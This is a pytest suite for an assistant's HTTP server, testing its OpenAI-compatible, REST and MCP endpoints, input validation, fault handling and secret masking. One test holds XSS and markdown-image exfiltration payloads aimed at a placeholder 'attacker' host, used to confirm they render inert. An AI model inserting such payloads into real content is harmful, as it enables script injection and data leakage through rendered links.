"""The served app (assistant.server) with real clients: the openai SDK, httpx (REST, raw SSE) and the
mcp SDK's client, against uvicorn on a free loopback port. The assistant has the production defaults
over the real index and embeddings, and talks to the HTTP FakeLLM, which cites the first passage it is given."""

from __future__ import annotations

import asyncio
import json
import logging
from concurrent.futures import ThreadPoolExecutor
from contextlib import contextmanager

import httpx
import openai
import pytest

from assistant.server.app import ServerThread, build_app
from tests.conftest import make_settings, open_assistant

DIFFUSION = "How do diffusion models generate images?"  # written by the (fake) LLM
WHISPER = "Who created Whisper?"  # answered from the model table


def api_settings(stack, **overrides):
    """The stack's settings with the API's own knobs (no rate limit unless a test sets one)."""
    values = dict(llm_model="fake", api_rate_limit=0)
    values.update(overrides)
    return make_settings(stack.settings.data_dir, stack.fake.url, **values)


@contextmanager
def served(assistant, settings, ui=False):
    with ServerThread(build_app(assistant, settings, ui=ui)) as server:
        yield server


@pytest.fixture(scope="module")
def server(api_stack):
    """The whole app (UI included) over the API stack's assistant."""
    with served(api_stack.assistant, api_settings(api_stack), ui=True) as running:
        yield running


def sdk(server, **kw) -> openai.OpenAI:
    return openai.OpenAI(base_url=server.url + "/v1", api_key=kw.pop("api_key", "none"), max_retries=0, timeout=60, **kw)


def entry_text(server, url: str) -> str:
    entry = httpx.get(url, timeout=30).json()
    return entry["text"] + "\n" + "\n".join(p["text"] for p in entry["passages"])


def squash(text: str) -> str:
    return " ".join(text.split())


# --- OpenAI-compatible ------------------------------------------------------------------------------
def test_models_lists_one_configurable_model(server):
    models = sdk(server).models.list()
    assert [m.id for m in models.data] == ["genai-assistant"]


def test_openai_sdk_answer_carries_verified_citations_and_annotations(server, backend):
    reply = sdk(server).chat.completions.create(model="anything", temperature=0.3, max_tokens=10, seed=1,
                                                messages=[{"role": "system", "content": "Be brief."},
                                                          {"role": "user", "content": DIFFUSION}])
    message = reply.choices[0].message
    expected = backend.assistant.ask(DIFFUSION)
    assert reply.object == "chat.completion" and reply.choices[0].finish_reason == "stop"
    assert message.content == expected.text and "[1]" in message.content
    citations = message.model_extra["citations"]
    assert citations and citations[0]["entry_id"] == "diffusion-models" and citations[0]["verified"] is True
    assert message.model_extra["refused"] is False and message.model_extra["notice"] == ""
    for c in citations:  # every quote is in the entry the citation points at
        assert squash(c["quote"]) in squash(entry_text(server, c["url"]))
    annotation = message.annotations[0]
    assert annotation.type == "url_citation" and annotation.url_citation.url == citations[0]["url"]
    span = message.content[annotation.url_citation.start_index:annotation.url_citation.end_index]
    assert span == "[1]" and citations[0]["quote"] in annotation.url_citation.title


def test_openai_sdk_stream_sends_only_verified_text_as_content(server, backend):
    chunks = list(sdk(server).chat.completions.create(model="genai-assistant", stream=True,
                                                      messages=[{"role": "user", "content": DIFFUSION}]))
    expected = backend.assistant.ask(DIFFUSION)
    assert chunks[0].choices[0].delta.role == "assistant"
    contents = [c.choices[0].delta.content for c in chunks if c.choices[0].delta.content]
    assert contents == [expected.text]  # one content delta: the verified answer, never the draft
    drafts = "".join((c.choices[0].delta.model_extra or {}).get("draft", "") for c in chunks)
    assert drafts.strip()  # the model's deltas were streamed, in their own field
    final = chunks[-1].choices[0]
    assert final.finish_reason == "stop"
    assert [c["entry_id"] for c in final.delta.model_extra["citations"]] == [c.entry_id for c in expected.citations]
    assert final.delta.model_extra["annotations"][0]["url_citation"]["url"].endswith("/api/entries/diffusion-models")
    assert sum(1 for c in chunks if "citations" in (c.choices[0].delta.model_extra or {})) == 1  # sent once


def test_raw_sse_events_end_with_done(server):
    body = {"messages": [{"role": "user", "content": WHISPER}], "stream": True}
    with httpx.stream("POST", server.url + "/v1/chat/completions", json=body, timeout=60) as reply:
        assert reply.status_code == 200 and reply.headers["content-type"].startswith("text/event-stream")
        data = [line[len("data: "):] for line in reply.iter_lines() if line.startswith("data: ")]
    assert data[-1] == "[DONE]"
    events = [json.loads(d) for d in data[:-1]]
    assert {e["object"] for e in events} == {"chat.completion.chunk"} and len({e["id"] for e in events}) == 1
    assert events[-1]["choices"][0]["delta"]["citations"][0]["entry_id"] == "whisper"


def test_follow_up_uses_the_earlier_messages_as_history(server, backend):
    follow_up = "What does it generate?"
    answer = backend.assistant.ask(WHISPER)
    messages = [{"role": "system", "content": "ignored"}, {"role": "user", "content": WHISPER},
                {"role": "assistant", "content": answer.text}, {"role": "user", "content": follow_up}]
    message = sdk(server).chat.completions.create(model="genai-assistant", messages=messages).choices[0].message
    expected = backend.assistant.ask(follow_up, [("user", WHISPER), ("assistant", answer.text)])
    assert message.content == expected.text and [c["entry_id"] for c in message.model_extra["citations"]] == ["whisper"]
    alone = sdk(server).chat.completions.create(model="genai-assistant", messages=messages[-1:]).choices[0].message
    assert alone.content != message.content  # without the history, "it" is not Whisper


def test_refusal_is_flagged(server):
    message = sdk(server).chat.completions.create(
        model="genai-assistant", messages=[{"role": "user", "content": "What is the capital of France?"}]).choices[0].message
    assert message.model_extra["refused"] is True and message.model_extra["citations"] == [] and message.content


def test_content_parts_and_unknown_parameters_are_accepted(server):
    body = {"model": "gpt-4o", "messages": [{"role": "user", "content": [{"type": "text", "text": WHISPER}]}],
            "tools": [], "stream_options": {"include_usage": True}, "frequency_penalty": 0, "user": "x"}
    reply = httpx.post(server.url + "/v1/chat/completions", json=body, timeout=60)
    assert reply.status_code == 200 and reply.json()["choices"][0]["message"]["citations"][0]["entry_id"] == "whisper"


# --- REST ---------------------------------------------------------------------------------------------
def test_rest_ask_returns_the_python_api_answer(server, backend):
    reply = httpx.post(server.url + "/api/ask", json={"question": WHISPER}, timeout=60).json()
    expected = backend.assistant.ask(WHISPER).to_dict()
    assert reply.keys() == expected.keys()
    assert reply["text"] == expected["text"] and reply["citations"] == expected["citations"]


def test_rest_retrieve_entries_and_health(server, backend):
    passages = httpx.post(server.url + "/api/retrieve", json={"question": "latent space", "k": 3}, timeout=60).json()["passages"]
    assert len(passages) == 3 and passages == [p.to_dict() for p in backend.assistant.retrieve("latent space", k=3)]
    entry = httpx.get(server.url + "/api/entries/whisper", timeout=30).json()
    assert entry["title"] == "Whisper" and entry["fields"]["creator"] == "OpenAI" and "Transcribed Text" in entry["text"]
    missing = httpx.get(server.url + "/api/entries/no-such-entry", timeout=30)
    assert missing.status_code == 404 and missing.json()["error"]["code"] == "not_found"
    health = httpx.get(server.url + "/api/health", timeout=30).json()
    assert health["llm_state"] == "ready" and health["index_size"] == backend.assistant.index_size


def test_ui_docs_and_unknown_api_paths(server):
    assert "gradio" in httpx.get(server.url + "/", timeout=30).text.lower()
    assert httpx.get(server.url + "/docs", timeout=30).status_code == 200
    paths = httpx.get(server.url + "/api/openapi.json", timeout=30).json()["paths"]
    assert {"/v1/chat/completions", "/v1/models", "/api/ask", "/api/retrieve", "/api/entries/{entry_id}",
            "/api/health"} <= set(paths)
    for path in ("/v1/nothing", "/api/nothing"):
        reply = httpx.get(server.url + path, timeout=30)
        assert reply.status_code == 404 and reply.json()["error"]["type"] == "invalid_request_error"
    assert httpx.get(server.url + "/v1/chat/completions", timeout=30).status_code == 405


# --- MCP over streamable HTTP ------------------------------------------------------------------------
def test_mcp_tools_over_http_with_the_sdk_client(server):
    from mcp import Client

    async def session():
        async with Client(server.url + "/mcp") as client:
            tools = {t.name: t for t in (await client.list_tools()).tools}
            ask = await client.call_tool("ask", {"question": WHISPER})
            search = await client.call_tool("search", {"question": "latent space", "k": 2})
            entry = await client.call_tool("get_entry", {"entry_id": "whisper"})
            nvidia = await client.call_tool("list_models", {"creator": "nViDiA"})
            images = await client.call_tool("list_models", {"generates": "IMAGE"})
            missing = await client.call_tool("get_entry", {"entry_id": "no-such-entry"})
            return tools, ask, search, entry, nvidia, images, missing

    tools, ask, search, entry, nvidia, images, missing = asyncio.run(session())
    assert set(tools) == {"ask", "search", "get_entry", "list_models"}
    assert all(t.output_schema and t.annotations.read_only_hint for t in tools.values())
    assert ask.structured_content["citations"][0] | {"verified": True} == ask.structured_content["citations"][0]
    assert ask.structured_content["citations"][0]["entry_id"] == "whisper" and ask.structured_content["refused"] is False
    assert ask.structured_content["citations"][0]["quote"] in ask.content[0].text  # readable text shows the quote
    assert len(search.structured_content["passages"]) == 2
    assert entry.structured_content["title"] == "Whisper" and "OpenAI" in entry.content[0].text
    assert {r["creator"] for r in nvidia.structured_content["models"]} == {"NVIDIA"} and nvidia.structured_content["count"] >= 2
    assert images.structured_content["count"] > 0
    assert all("image" in r["generates"].lower() for r in images.structured_content["models"])
    assert missing.is_error and "no-such-entry" in missing.content[0].text


# --- load ---------------------------------------------------------------------------------------------
def test_L10_eight_concurrent_clients_get_their_own_answers(server, backend):
    questions = [DIFFUSION, "What is overfitting?", "How does reinforcement learning from human feedback work?", WHISPER,
                 "What does DALL-E generate?", "What is latent space?", "Who created StyleGAN?", "What is Midjourney?"]
    expected = {q: backend.assistant.ask(q) for q in questions}

    def ask(n: int) -> tuple[str, str, list[str]]:
        question = questions[n]
        if n % 2:  # half through the openai SDK, half through REST
            message = sdk(server).chat.completions.create(model="genai-assistant",
                                                          messages=[{"role": "user", "content": question}]).choices[0].message
            return question, message.content, [c["entry_id"] for c in message.model_extra["citations"]]
        reply = httpx.post(server.url + "/api/ask", json={"question": question}, timeout=60)
        reply.raise_for_status()
        return question, reply.json()["text"], [c["entry_id"] for c in reply.json()["citations"]]

    for _ in range(2):
        with ThreadPoolExecutor(8) as pool:
            results = list(pool.map(ask, range(8)))
        for question, text, cited in results:
            assert text == expected[question].text and cited == [c.entry_id for c in expected[question].citations]
    cited = {q: ids for q, _, ids in results}
    assert cited[WHISPER] == ["whisper"] and cited["Who created StyleGAN?"] == ["stylegan"]
    assert cited[DIFFUSION][0] == "diffusion-models"


# --- bad input -------------------------------------------------------------------------------------------
def test_B1_empty_question_is_400_and_reaches_no_llm(server, backend):
    with pytest.raises(openai.BadRequestError) as raised:
        sdk(server).chat.completions.create(model="genai-assistant", messages=[{"role": "user", "content": "  \n "}])
    assert raised.value.body["code"] == "invalid_input" and "empty" in raised.value.body["message"]
    reply = httpx.post(server.url + "/api/ask", json={"question": ""}, timeout=30)
    assert reply.status_code == 400 and reply.json()["error"]["type"] == "invalid_request_error"
    assert backend.fake.attempts == 0


def test_B2_long_question_is_400_and_huge_body_is_413_before_parsing(server, backend):
    long = httpx.post(server.url + "/api/ask", json={"question": "why " * 25_000}, timeout=30)
    assert long.status_code == 400 and "MAX_QUESTION_CHARS" in long.json()["error"]["message"]
    megabyte = httpx.post(server.url + "/v1/chat/completions", timeout=30,
                          json={"messages": [{"role": "user", "content": "x" * 1_000_000}]})
    assert megabyte.status_code in (400, 413)
    huge = httpx.post(server.url + "/api/ask", content=b'{"question": "' + b"a" * 2_000_000 + b'"}', timeout=30)
    assert huge.status_code == 413 and huge.json()["error"]["code"] == "request_too_large"

    def chunked():  # no Content-Length: the limit is counted while reading
        for _ in range(40):
            yield b"a" * 65_536

    streamed = httpx.post(server.url + "/api/ask", content=chunked(), timeout=30, headers={"content-type": "application/json"})
    assert streamed.status_code == 413
    assert backend.fake.attempts == 0


@pytest.mark.parametrize(("path", "body"), [
    ("/v1/chat/completions", b"{not json"),
    ("/v1/chat/completions", b'{"messages": "hello"}'),
    ("/v1/chat/completions", b'{"messages": []}'),
    ("/v1/chat/completions", b'{"messages": [{"role": "user", "content": 42}]}'),
    ("/v1/chat/completions", b'{"messages": [{"role": "system", "content": "no question here"}]}'),
    ("/v1/chat/completions", b'[1, 2, 3]'),
    ("/api/ask", b'{"question": 42}'),
    ("/api/ask", b'{"question": "What is a VAE?", "history": [{"role": "robot", "content": "x"}]}'),
    ("/api/retrieve", b'{"question": "latent space", "k": 0}'),
    ("/api/retrieve", b'{"question": "latent space", "k": "many"}'),
    ("/api/ask", b""),
])
def test_B11_bad_bodies_get_openai_style_400(server, backend, path, body):
    reply = httpx.post(server.url + path, content=body, headers={"content-type": "application/json"}, timeout=30)
    assert reply.status_code == 400, reply.text
    error = reply.json()["error"]
    assert error["type"] == "invalid_request_error" and error["message"] and "Traceback" not in reply.text
    assert backend.fake.attempts == 0


def test_B4_lone_surrogates_never_break_the_api(server):
    body = '{"question": "What is latent space?\\ud800", "history": [{"role": "user", "content": "\\udfff hi"}]}'
    reply = httpx.post(server.url + "/api/ask", content=body.encode(), headers={"content-type": "application/json"}, timeout=60)
    assert reply.status_code in (200, 400) and reply.json()
    chat = '{"messages": [{"role": "user", "content": "\\ud83d Who created Whisper?"}], "stream": true}'
    streamed = httpx.post(server.url + "/v1/chat/completions", content=chat.encode(),
                          headers={"content-type": "application/json"}, timeout=60)
    assert streamed.status_code in (200, 400) and "Traceback" not in streamed.text


# --- faults -------------------------------------------------------------------------------------------------
def test_F1_llm_down_answers_still_quote_the_sources(server, backend):
    backend.fake.set_mode("status", status=503)
    client = sdk(server)
    message = client.chat.completions.create(model="genai-assistant",
                                             messages=[{"role": "user", "content": DIFFUSION}]).choices[0].message
    extra = message.model_extra
    assert extra["notice"] and extra["citations"] and message.content and extra["refused"] is False
    for c in extra["citations"]:
        assert squash(c["quote"]) in squash(entry_text(server, c["url"]))
    chunks = list(client.chat.completions.create(model="genai-assistant", stream=True,
                                                 messages=[{"role": "user", "content": DIFFUSION}]))
    final = chunks[-1].choices[0].delta.model_extra
    assert final["notice"] and final["citations"]


def test_F22_index_missing_is_503_and_health_says_so(tmp_path, embed_model, backend):
    empty = open_assistant(make_settings(tmp_path / "empty", backend.fake.url, llm_model="fake"), embed_model)
    try:
        with served(empty, api_settings(backend)) as running:
            with pytest.raises(openai.InternalServerError) as raised:
                sdk(running).chat.completions.create(model="genai-assistant", messages=[{"role": "user", "content": WHISPER}])
            assert raised.value.status_code == 503 and "ingest" in raised.value.body["message"]
            for path, body in (("/api/ask", {"question": WHISPER}), ("/api/retrieve", {"question": WHISPER})):
                reply = httpx.post(running.url + path, json=body, timeout=30)
                assert reply.status_code == 503 and reply.json()["error"]["code"] == "index_missing"
            assert httpx.get(running.url + "/api/health", timeout=30).json()["index_size"] == 0
    finally:
        empty.close()


# --- disclosure -----------------------------------------------------------------------------------------------
def test_S4_unexpected_errors_are_generic_and_logged_without_secrets(caplog):
    """A failure the assistant does not expect: 500 with a generic message; the log has the traceback, secrets masked."""
    from fastapi import APIRouter, FastAPI
    from fastapi.testclient import TestClient

    from assistant.server.routing import api_route_class

    router = APIRouter(route_class=api_route_class(("sk-live-secret-value",)))

    @router.get("/boom")
    def boom():
        raise RuntimeError("failed with sk-live-secret-value at http://admin:hunter22@db.internal/x")

    app = FastAPI()
    app.include_router(router)
    with caplog.at_level(logging.ERROR), TestClient(app) as client:
        reply = client.get("/boom")
    assert reply.status_code == 500 and reply.json()["error"]["code"] == "internal_error"
    assert "sk-live" not in reply.text and "hunter22" not in reply.text and "Traceback" not in reply.text
    assert "Traceback" in caplog.text and "RuntimeError" in caplog.text
    assert "sk-live-secret-value" not in caplog.text and "hunter22" not in caplog.text


def test_S2_sources_block_is_opt_in_and_inert(backend):
    from assistant.server.openai_compat import sources_block
    from assistant.types import Citation

    evil = Citation(number=1, entry_id="x", title="<script>alert(1)</script>", passage_text="",
                    quote="see ![x](http://attacker/?q=secret) <img src=x>", source="[click](javascript:alert(1))")
    from markdown_it import MarkdownIt

    html = MarkdownIt("commonmark").render(sources_block([evil]))  # as a markdown client renders it
    assert "<img" not in html and "<a " not in html and "<script" not in html and "attacker" in html
    with served(backend.assistant, api_settings(backend, api_sources_block=True)) as running:
        content = sdk(running).chat.completions.create(
            model="genai-assistant", messages=[{"role": "user", "content": WHISPER}]).choices[0].message.content
    assert content.startswith(backend.assistant.ask(WHISPER).text) and "**Sources**" in content
    assert "Whisper — creator: OpenAI — generates: Transcribed Text" in content


# --- bench ------------------------------------------------------------------------------------------------------
def test_api_bench_writes_json_markdown_and_plot(backend, tmp_path):
    from assistant.server.bench import bench_api

    result = bench_api(backend.assistant, backend.settings, tmp_path, questions=[WHISPER, "What is latent space?"],
                       repeats=2, clients=2, per_client=2)
    assert {p.name for p in tmp_path.iterdir()} == {"api_bench.json", "api_bench.md", "api_bench.png"}
    assert result["throughput"]["concurrent"]["errors"] == 0 and result["latency"]["http_api"]["n"] == 4
    assert json.loads((tmp_path / "api_bench.json").read_text())["latency"]["added_p50_ms"] == result["latency"]["added_p50_ms"]
    assert "| 2 | 4 | 0 |" in (tmp_path / "api_bench.md").read_text()
